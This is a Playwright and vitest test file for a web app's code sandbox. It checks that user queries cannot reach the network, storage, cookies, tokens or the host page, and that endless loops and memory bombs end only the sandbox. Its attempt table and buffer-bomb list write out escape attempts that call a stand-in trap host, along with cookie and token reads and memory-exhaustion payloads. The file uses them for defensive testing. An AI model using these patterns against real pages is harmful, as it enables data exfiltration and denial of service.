// What user code can do in the sandbox, and what it cannot: no network, no storage, no access to the page; endless loops and
// memory exhaustion end only the sandbox.

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { setStage, shownLines, waitValid } from '../support/app.ts';
import { dialog, openTransform, outcome, result, resultRows, writeQuery } from '../support/transform-pane.ts';

const stage = setStage();
let trap: Server;
let trapped: string[] = [];
let trapAddress = '';

beforeAll(async () => {
  // Receives every request that escapes the sandbox: CORS allows any origin.
  trap = createServer((request, response) => {
    trapped.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapAddress = `127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
beforeEach(() => {
  trapped = [];
});
afterAll(() => new Promise((resolve) => trap.close(resolve)));

/** Each attempts to escape and returns what it got. Most are expected to throw. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  fetch: 'fetch("http://TRAP/fetch", {mode: "no-cors"}); return "sent"',
  'fetch of this server': 'fetch("/index.html"); return "sent"',
  'keepalive fetch':
    'fetch("http://TRAP/keepalive", {mode: "no-cors", keepalive: true, method: "POST", body: "x"}); return "sent"',
  XMLHttpRequest:
    'const r = new XMLHttpRequest(); r.open("GET", "http://TRAP/xhr", false); r.send(); return r.responseText',
  WebSocket: 'new WebSocket("ws://TRAP/socket"); return "opened"',
  EventSource: 'new EventSource("http://TRAP/events"); return "opened"',
  WebTransport: 'new WebTransport("https://TRAP/transport"); return "opened"',
  importScripts: 'importScripts("http://TRAP/script.js"); return "loaded"',
  'importScripts of a blob': 'importScripts(URL.createObjectURL(new Blob(["self.loaded = true"]))); return self.loaded',
  'importScripts of a data address': 'importScripts("data:text/javascript,self.loaded=true"); return self.loaded',
  'import()': 'import("http://TRAP/module.js"); return "asked"',
  'a Worker inside': `
    new Worker(URL.createObjectURL(new Blob(['fetch("http://TRAP/inner", {mode: "no-cors"})']))); return "started"`,
  'a Worker from the network': 'new Worker("http://TRAP/worker.js"); return "started"',
  SharedWorker: 'new SharedWorker("http://TRAP/shared.js"); return "started"',
  indexedDB: 'return String(indexedDB.open("documents"))',
  caches: 'return String(caches.open("x"))',
  'navigator.storage': 'return String(navigator.storage.getDirectory())',
  'navigator.locks': 'return String(navigator.locks.request("x", () => 1))',
  localStorage: 'return localStorage.length',
  cookies: 'return document.cookie',
  parent: 'return String(parent.location)',
  top: 'top.location = "http://TRAP/top"; return "gone"',
  opener: 'return String(opener.document)',
  'a popup': 'return String(open("http://TRAP/popup"))',
  'a form': 'return document.forms.length',
  WebRTC: 'return new RTCPeerConnection({iceServers: [{urls: "stun:TRAP"}]}).createDataChannel("x").label',
  CSS: 'return new FontFace("x", "url(http://TRAP/font)").load() && "asked"',
  sendBeacon: 'return navigator.sendBeacon("http://TRAP/beacon", "x")',
  Notification: 'return new Notification("x").title',
  'the service worker': 'return String(navigator.serviceWorker.controller)',
  'a message to the frame': 'postMessage({type: "ready"}); postMessage("connect"); return "told"',
  BroadcastChannel: 'new BroadcastChannel("diptych").postMessage("erase"); return "told"',
  'the prototype of ports': `
    const {postMessage} = MessagePort.prototype;
    MessagePort.prototype.postMessage = function (...given) { postMessage.apply(this, ['forged']); return postMessage.apply(this, given) };
    return "patched"`,
  'the prototype of objects':
    'Object.prototype.toJSON = () => "taken"; delete Object.prototype.toJSON; return "put back"',
  'the constructor of the constructor': 'return this?.constructor ?? (function () { return this })() ?? "no this"',
  'a token': 'return Object.keys(self).filter((key) => /token|storage/i.test(key)).join()',
};

/** Each allocates 100 MB outside the heap. */
const BUFFER_BOMBS = [
  'new Float64Array(1.25e7)',
  'structuredClone(new ArrayBuffer(1e8))',
  'new ArrayBuffer(0, { maxByteLength: 1e8 })',
  'new (class extends Uint8Array { get byteLength() { return 0 } })(1e8)',
  'new Uint8Array(1e8).slice()',
  'new Uint8Array(1).toReversed(new Uint8Array(1e8))',
  'Uint8Array.from(new Uint8Array(1e8))',
] as const;

/** These may succeed, because they are harmless. */
const HARMLESS = new Set(['the prototype of objects', 'the constructor of the constructor', 'a token', 'import()']);

const attemptsCode = (): string => `function query () {
  const said = {}
  const attempts = {
${Object.entries(ATTEMPTS)
  .map(([name, body]) => `    ${JSON.stringify(name)}: () => { ${body.replaceAll('TRAP', trapAddress)} }`)
  .join(',\n')}
  }
  for (const name in attempts) {
    try { said[name] = 'got: ' + attempts[name]() } catch (error) { said[name] = 'refused: ' + error.name }
  }
  // What goes out goes out now: nobody waits for a promise.
  const until = Date.now() + 1500
  while (Date.now() < until);
  return said
}`;

/** Returns a function that gives the longest freeze of the page since its last call, in milliseconds. */
async function heartbeat(page: Page): Promise<() => Promise<number>> {
  await page.evaluate(() => {
    const beat = { last: performance.now(), gap: 0 };
    Reflect.set(globalThis, 'beat', beat);
    setInterval(() => {
      const now = performance.now();
      beat.gap = Math.max(beat.gap, now - beat.last);
      beat.last = now;
    }, 10);
  });
  return () => page.evaluate(() => (Reflect.get(globalThis, 'beat') as { gap: number }).gap);
}

describe('[TRF-3] a person’s code', () => {
  it('reaches no network, no storage, no page and no token', async () => {
    const page = await stage.prepare({ allow: /Failed to fetch dynamically imported module/ });
    await page.goto(stage.address());
    await waitValid(page, 'Left');
    await expect.poll(async () => (await shownLines(page, 'Left')).length).toBeGreaterThan(10);
    const before = { address: page.url(), text: await shownLines(page, 'Left') };
    const opened: string[] = [];
    page.context().on('page', (other) => opened.push(other.url()));
    await openTransform(page);
    await writeQuery(page, attemptsCode());
    await expect
      .poll(() => outcome(page), { timeout: 20_000 })
      .toMatch(new RegExp(`^${Object.keys(ATTEMPTS).length} keys`));
    const rows = await resultRows(page);
    // What is not refused has no effect outside the worker.
    for (const text of rows.slice(1)) {
      const name = Object.keys(ATTEMPTS).findLast((one) => text.startsWith(`${one} `)) ?? '';
      if (!HARMLESS.has(name)) expect(text).toMatch(/refused: \w+Error$/);
    }
    expect(rows.length).toBeGreaterThan(20);
    expect(trapped).toEqual([]);
    expect(opened).toEqual([]);
    expect(page.url()).toBe(before.address);
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    await dialog(page).waitFor({ state: 'detached' });
    await expect.poll(() => shownLines(page, 'Left')).toEqual(before.text);
    await expect
      .poll(() => page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name)))
      .not.toContain('documents');
  });

  it('that loops for ever is ended at its limit, or by Cancel within 100 ms; the next query works, is not blamed for what ended the sandbox before it, and may give much more than it was given', async () => {
    const page = await stage.open();
    const gap = await heartbeat(page);
    await openTransform(page);
    await expect.poll(() => outcome(page)).toMatch(/7 keys/);
    const begun = Date.now();
    await writeQuery(page, '(() => { for (;;); })()');
    const stop = result(page).getByRole('button', { name: 'Stop the query' });
    await stop.waitFor();
    const ended = await page.evaluate(async () => {
      const button = Array.from(document.querySelectorAll('button')).find(
        ({ textContent }) => textContent === 'Stop the query',
      );
      const from = performance.now();
      button?.click();
      while (document.body.textContent?.includes('running, ')) await new Promise((resolve) => setTimeout(resolve, 2));
      return performance.now() - from;
    });
    expect(ended).toBeLessThan(1000);
    await writeQuery(page, '(() => { for (;;) {} })()');
    await expect.poll(() => outcome(page), { timeout: 20_000 }).toMatch(/stopped after 10 seconds/);
    expect(Date.now() - begun).toBeGreaterThan(10_000);
    await dialog(page).getByRole('button', { name: 'Go on longer' }).waitFor();
    await writeQuery(page, '1 + 1');
    await expect.poll(() => resultRows(page)).toEqual(['root 2']);
    await expect.poll(() => gap()).toBeLessThan(1000);

    const told: string[] = [];
    for (const query of ['data.boolean', 'data.number']) {
      // Like a frame whose process has ended: it is still there, but does not reply.
      await page.evaluate(async () => {
        const frame = document.querySelector<HTMLIFrameElement>('iframe[sandbox]');
        await new Promise((resolve) => {
          frame?.addEventListener('load', resolve, { once: true });
          if (frame !== null) frame.src = 'about:blank';
        });
      });
      await writeQuery(page, query);
      await expect
        .poll(async () => {
          told.push(await outcome(page));
          return resultRows(page);
        })
        .toEqual([query === 'data.boolean' ? 'root true' : 'root 123']);
    }
    expect(told.filter((one) => /memory/.test(one))).toEqual([]);
    // The result comes in hundreds of large pieces.
    await writeQuery(page, 'Array.from({ length: 500 }, (_, n) => String(n).padEnd(70_000))');
    await expect.poll(() => outcome(page), { timeout: 20_000 }).toMatch(/500 items\s*33\.4 MB/);
  });

  it('that takes all memory ends the sandbox and nothing else', async () => {
    // Playwright treats the sandbox as part of the page and would report its crash as the page's. The page itself survives.
    const page = await stage.open();
    await openTransform(page);
    await expect.poll(() => outcome(page)).toMatch(/7 keys/);
    const gap = await heartbeat(page);
    for (const body of BUFFER_BOMBS) {
      await writeQuery(
        page,
        `(() => { const all = []; for (let n = 0; n < 20; n += 1) all.push(${body}); return all.length })()`,
      );
      await expect.poll(() => outcome(page), { message: body }).toMatch(/more than 1 GB of buffers|is not a function/);
      await writeQuery(page, 'data.boolean');
      await expect.poll(() => resultRows(page)).toEqual(['root true']);
    }
    // Many views of one buffer count as that one buffer.
    await writeQuery(
      page,
      '(() => { const one = new ArrayBuffer(2e7); return _.times(100, () => new Uint8Array(one).length).length })()',
    );
    await expect.poll(() => resultRows(page)).toEqual(['root 100']);
    const direct = await page.context().newCDPSession(page);
    const ask = async (expression: string): Promise<unknown> =>
      (await direct.send('Runtime.evaluate', { expression, returnByValue: true })).result.value;
    const said = (): Promise<unknown> =>
      ask(
        `(document.querySelector('[role=dialog] [data-failed]') ?? document.querySelector('section[aria-label=Result]')).innerText.replaceAll(/\\s+/g, ' ')`,
      );
    await ask(`globalThis.beat = { last: performance.now(), gap: 0 }; setInterval(() => {
      const now = performance.now(); beat.gap = Math.max(beat.gap, now - beat.last); beat.last = now; }, 10); 1`);
    await writeQuery(page, '"x".repeat(5e8).split("")');
    await expect.poll(said, { timeout: 30_000 }).toMatch(/used more memory than the browser gives it/);
    // The editor still has the focus.
    await direct.send('Input.dispatchKeyEvent', {
      type: 'rawKeyDown',
      key: 'a',
      code: 'KeyA',
      windowsVirtualKeyCode: 65,
      modifiers: 2,
      commands: ['selectAll'],
    });
    await direct.send('Input.insertText', { text: 'data.number' });
    await expect.poll(said, { timeout: 30_000 }).toMatch(/root 123/);
    process.stdout.write(
      `memory bomb: the page stood still for ${Math.round(Number(await ask('beat.gap')))} ms at the most\n`,
    );
    expect(await gap().catch(() => 0)).toBeLessThan(1000);
    expect(await ask(`document.querySelector('#LEFT_PANEL .view-line').textContent`)).toBe('{');
  });
});
